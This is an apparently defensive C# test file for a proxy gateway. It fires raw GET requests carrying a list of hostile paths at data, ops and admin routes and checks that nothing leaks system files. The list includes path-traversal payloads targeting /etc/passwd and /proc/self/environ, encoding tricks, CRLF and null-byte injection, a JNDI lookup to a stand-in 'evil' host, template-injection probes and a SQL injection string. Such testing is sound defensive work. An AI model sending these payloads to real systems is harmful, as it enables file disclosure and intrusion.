using ProxyCluster.Tests.Http.Gateway;
using ProxyCluster.Tests.Support.Clients;

namespace ProxyCluster.Tests.Http.Security;

/// <summary>Paths that mean to climb out of what a route names. No route reads a file, and none takes them for a name.</summary>
public sealed class PathTraversalTests(GatewayFixture gateway) : GatewayTest(gateway)
{
    private static readonly string[] Climbs =
    [
        "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd", "%2e%2e/%2e%2e/etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..\\..\\windows", "..%5c..%5cwindows",
        "%c0%ae%c0%ae/", "%c0%af", "....//....//etc/passwd", "..;/..;/", ";/../..", "a/../../b", "%00", "a%00.json", "/etc/passwd", "//etc/passwd", "file:///etc/passwd", "file:%2f%2f%2fetc%2fpasswd",
        "C:%5cwindows", "%5c%5cevil%5cshare", ".", "..", "...", "~root", "proc/self/environ", "%2fproc%2fself%2fenviron", "a%0d%0ab", "a%0ab", "%ff%fe", "%", "%zz", "%u002e%u002e", "a?../..", "a#../..",
        "%e2%80%a5%e2%88%95", "%ef%bc%8e%ef%bc%8e%ef%bc%8f", "${jndi:ldap://evil}", "{{7*7}}", "%7b%7b7*7%7d%7d", "' OR 1=1--", "*", "%2a",
    ];

    private static readonly string[] Admin = ["/admin/v1/providers/", "/admin/v1/keys/", "/admin/v1/providers/p/", "/admin/v1/", "/dashboard/", "/"];

    public static TheoryData<string> Paths => [.. Climbs.Select(climb => climb.Replace(' ', '+'))];

    [Fact]
    public void Paths_AreAsManyAsTheyOughtToBe() => Assert.True(Climbs.Length >= 40, $"There are {Climbs.Length}.");

    [Theory, MemberData(nameof(Paths))]
    public async Task Path_ThatClimbs_NamesNothing(string climb)
    {
        await AssertNothingAsync(Gateway.Gateway.Data, "/v1/models/" + climb);
        await AssertNothingAsync(Gateway.Gateway.Ops, "/" + climb);
        foreach (var route in Admin)
        {
            await AssertNothingAsync(Gateway.Gateway.Admin, route + climb);
        }
    }

    private static async Task AssertNothingAsync(Uri listener, string target)
    {
        using var client = await RawHttp.ConnectAsync(listener);
        await client.SendAsync($"GET {target} HTTP/1.1\r\nhost: 127.0.0.1\r\nconnection: close\r\n\r\n");

        var response = await client.ReadResponseAsync();

        Assert.True(response is null or { Status: >= 400 and < 500 } || IsPlainPage(target), $"{target} at {listener} was answered {response?.Status} {response?.Body}");
        Assert.DoesNotContain("root:", response?.Body ?? "", StringComparison.Ordinal);
        Assert.DoesNotContain("PATH=", response?.Body ?? "", StringComparison.Ordinal);
    }

    // What the server makes of dots before any route sees them is a path like any other: of a list, or of the dashboard itself.
    private static bool IsPlainPage(string target) =>
        new Uri(new Uri("http://127.0.0.1"), target.Replace("%2e", ".", StringComparison.OrdinalIgnoreCase).Replace("#", "%23", StringComparison.Ordinal)).AbsolutePath.TrimEnd('/')
            is "/admin/v1/providers" or "/admin/v1/keys" or "/dashboard" or "/v1/models" or "/admin/v1/providers/p" || target.StartsWith("/dashboard/", StringComparison.Ordinal);
}
